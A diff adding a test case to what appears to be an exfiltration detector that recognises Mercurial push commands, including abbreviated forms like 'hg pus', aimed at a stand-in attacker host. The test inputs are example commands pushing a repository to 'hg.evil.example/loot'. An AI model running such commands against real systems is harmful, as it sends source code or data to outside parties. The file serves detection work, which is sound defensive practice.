@@ -154,6 +154,20 @@ describe('push-tool table', () => {
     }
   });
 
+  it('hg runs any unambiguous prefix of a command: `hg pus` is `hg push`; `pu` (pull, purge) is refused', () => {
+    const hg = (args: string) =>
+      recognizeProcess({ binary: '/usr/bin/hg', args, parentBinary: null, parentArgs: null }, uploadTarget);
+    for (const args of ['pus https://hg.evil.example/loot', '-R /srv/repo pus https://hg.evil.example/loot -f'])
+      expect(hg(args), args).toMatchObject({
+        kind: 'push',
+        tool: 'hg',
+        destinationHost: 'hg.evil.example',
+        remote: 'https://hg.evil.example/loot',
+      });
+    for (const args of ['pus --help', 'pu https://hg.evil.example/loot', 'p https://hg.evil.example/loot'])
+      expect(hg(args)?.kind, args).not.toBe('push');
+  });
+
   it('recognises renamed git by its plumbing and its helpers, and tools run from temp dirs', () => {
     const sendPack = recognizeProcess(
       {
